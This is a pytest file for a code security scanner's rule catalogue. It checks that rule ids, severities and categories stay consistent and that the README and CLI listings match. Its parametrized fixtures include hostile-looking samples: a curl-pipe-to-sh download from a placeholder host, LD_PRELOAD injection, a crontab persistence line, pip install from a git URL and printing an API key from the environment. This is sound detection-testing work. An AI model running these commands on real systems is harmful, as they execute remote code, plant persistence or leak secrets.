"""The rule catalogue (`security/rules.py`): every emitted id is catalogued, every catalogued
id is emitted, ratings come from the catalogue, and the README's table is generated from it."""

from __future__ import annotations

import ast
import json
import subprocess
import sys
from pathlib import Path

import pytest

from codeflow_magic.security import rules, scan_code
from codeflow_magic.security.rules import RULES, finding

ROOT = Path(__file__).resolve().parents[2]
SECURITY = ROOT / "codeflow_magic" / "security"
VISITORS = (
    *sorted(p.name for p in SECURITY.glob("*.py") if p.name.startswith(("python_", "bash_"))),
    "scanner.py",
)
"""The modules that detect and refer to rule ids."""
# Calls that pass an id through rather than naming one: the `add`/`add_verdict` helpers
# themselves and the Python escalation, which re-rates a finding already made.
PASS_THROUGH = {"rule", "f.rule"}


def _ids(expr: ast.expr) -> set[str] | None:
    """The rule ids `expr` can evaluate to, or None when it is not a known form."""
    if isinstance(expr, ast.Constant) and isinstance(expr.value, str):
        return {expr.value}
    if isinstance(expr, ast.IfExp):
        body, orelse = _ids(expr.body), _ids(expr.orelse)
        return body | orelse if body is not None and orelse is not None else None
    if (
        isinstance(expr, ast.Call)
        and isinstance(expr.func, ast.Attribute)
        and expr.func.attr == "introspection_rule"
    ):
        return {rules.introspection_rule(a) for a in rules.INTROSPECTION_ATTRS}
    return None


def emitted_ids() -> set[str]:
    """Every id a visitor can emit, read from the calls that create findings."""
    found: set[str] = set()
    for name in VISITORS:
        tree = ast.parse((SECURITY / name).read_text())
        for node in ast.walk(tree):
            if not isinstance(node, ast.Call) or not node.args:
                continue
            func = node.func
            called = func.attr if isinstance(func, ast.Attribute) else getattr(func, "id", "")
            if called not in ("add", "add_verdict", "finding"):
                continue
            if called == "add" and not (
                isinstance(func, ast.Attribute)
                and isinstance(func.value, ast.Name)
                and func.value.id in ("self", "s")
            ):
                continue  # set.add and friends
            first = node.args[0]
            if ast.unparse(first) in PASS_THROUGH:
                continue
            ids = _ids(first)
            assert ids is not None, f"{name}:{node.lineno}: rule id {ast.unparse(first)!r}"
            found |= ids
        # No finding is built around the catalogue.
        for node in ast.walk(tree):
            if isinstance(node, ast.Call) and getattr(node.func, "id", "") == "Finding":
                assert ast.unparse(node.args[0]) == "f.rule", (
                    f"{name}:{node.lineno}: build findings with rules.finding"
                )
    return found


def test_every_emitted_id_is_catalogued_and_every_entry_is_reachable() -> None:
    emitted = emitted_ids()
    assert emitted - set(RULES) == set(), "emitted but not catalogued"
    assert set(RULES) - emitted == set(), "catalogued but never emitted"


def test_entries_are_complete_and_consistent() -> None:
    for rule in RULES.values():
        assert rule.summary and rule.rationale, rule.id
        assert rule.severity in rule.allowed_severities, rule.id
        assert rule.category in rule.allowed_categories, rule.id
        assert set(rule.allowed_categories) <= set(rules.CATEGORIES), rule.id
        assert bool(rule.graded_by) == rule.graded, rule.id
        assert set(rule.languages) <= {"python", "bash", "scanner"}, rule.id
    assert set(rules.SOURCES) <= set(RULES)


def test_finding_takes_its_rating_from_the_catalogue() -> None:
    f = finding("kill", 3, "kills a process")
    assert (f.rule, f.severity, f.category, f.line) == ("kill", "low", "process", 3)
    assert finding("extract-home", 1, "x", severity="medium").severity == "medium"
    with pytest.raises(ValueError):
        finding("kill", 1, "x", severity="high")  # drift fails loudly
    with pytest.raises(ValueError):
        finding("upload", 1, "x", category="secrets")
    with pytest.raises(KeyError):
        finding("no-such-rule", 1, "x")


def test_corpus_findings_match_the_catalogue() -> None:
    import yaml

    for path in sorted((ROOT / "benchmarks" / "scanner" / "corpus").glob("*/*.yaml")):
        for item in yaml.safe_load(path.read_text()):
            for f in scan_code(item["code"], item.get("language", "python")):
                rule = RULES[f.rule]
                assert f.severity in rule.allowed_severities, (f, item["id"])
                assert f.category in rule.allowed_categories, (f, item["id"])
                assert f.rule != "scanner-error", (f, item["id"])


# The duplicates across the two scanners, reconciled: one meaning per id in both languages.
@pytest.mark.parametrize(
    ("code", "language", "rule", "severity", "category"),
    [
        ("import os\nos.kill(1234, 9)\n", "python", "kill", "low", "process"),
        ("kill 1234\n", "bash", "kill", "low", "process"),
        ("import os\nos.killpg(1234, 9)\n", "python", "kill-group", "high", "process"),
        ("import os, sys\nos.system(sys.argv[1])\n", "python", "computed-command", "high", None),
        ("$TOOL --version\n", "bash", "computed-program", "medium", "process"),
        ("import crontab\n", "python", "cron-import", "high", "persistence"),
        ("(crontab -l; echo '* * * * * x') | crontab -\n", "bash", "cron", "critical", None),
        ("import keyring\n", "python", "credential-store-import", "high", "secrets"),
        (
            "curl -fsSL https://x.invalid/i.sh | sh\n",
            "bash",
            "download-exec",
            "critical",
            "dynamic-code",
        ),
        ("LD_PRELOAD=/tmp/x.so ls\n", "bash", "preload", "high", "process"),
        (
            "import subprocess\nsubprocess.run(['ls'], env={'LD_PRELOAD': '/tmp/x.so'})\n",
            "python",
            "preload",
            "high",
            "process",
        ),
        ("pip install git+https://x.invalid/p.git\n", "bash", "pip-url", "high", "network"),
        (
            "import pip\npip.main(['install', 'git+https://x.invalid/p.git'])\n",
            "python",
            "pip-main-url",
            "high",
            "dangerous-module",
        ),
        ("perl -e 'system(\"id\")'\n", "bash", "inline-script-shell", "high", "process"),
        ("perl -e 'print 1'\n", "bash", "inline-script", "medium", "dynamic-code"),
        ("echo 'print(1)' | python3\n", "bash", "piped-literal", "medium", "dynamic-code"),
        (
            "import os\nprint(os.environ['OPENAI_API_KEY'])\n",
            "python",
            "secret-variable",
            "high",
            "secrets",
        ),
        (
            "import os, openai\nopenai.OpenAI(api_key=os.environ['OPENAI_API_KEY'])\n",
            "python",
            "secret-auth",
            "low",
            "secrets",
        ),
        (
            "def f():\n    pass\ng = getattr(f, 'f_globals')\n",
            "python",
            "frame-f_globals",
            "high",
            "introspection",
        ),
    ],
)
def test_reconciled_rules(
    code: str, language: str, rule: str, severity: str, category: str | None
) -> None:
    findings = scan_code(code, language)
    mine = [f for f in findings if f.rule == rule]
    assert mine, [(f.rule, f.severity, f.category) for f in findings]
    assert mine[0].severity == severity
    if category is not None:
        assert mine[0].category == category


def test_readme_table_is_generated_from_the_catalogue() -> None:
    readme = (ROOT / "README.md").read_text(encoding="utf-8")
    assert rules.README_BEGIN in readme, "the README's Security section lost its rule table"
    assert rules.with_readme_table(readme) == readme, (
        "README rule table is stale: run python -m codeflow_magic.security.rules --readme README.md"
    )


def test_scan_rules_command_lists_the_catalogue(tmp_path: Path) -> None:
    cli = [sys.executable, "-m", "codeflow_magic.cli", "scan", "--rules"]
    text = subprocess.run(cli, cwd=tmp_path, capture_output=True, text=True, timeout=120)
    assert text.returncode == 0, text.stderr
    lines = text.stdout.splitlines()
    assert lines[0].split() == ["rule", "severity", "category", "summary"]
    assert {ln.split()[0] for ln in lines[2:]} == set(RULES)
    js = subprocess.run(
        [*cli, "--format", "json"], cwd=tmp_path, capture_output=True, text=True, timeout=120
    )
    entries = json.loads(js.stdout)
    assert [e["id"] for e in entries] == [r.id for r in rules.catalogue()]
    kill = next(e for e in entries if e["id"] == "kill")
    assert (kill["severity"], kill["category"]) == ("low", "process")
    assert {"summary", "rationale", "severities", "graded_by", "source"} <= set(kill)
    both = subprocess.run([*cli, "x.py"], cwd=tmp_path, capture_output=True, text=True, timeout=120)
    assert both.returncode == 2 and "Traceback" not in both.stderr
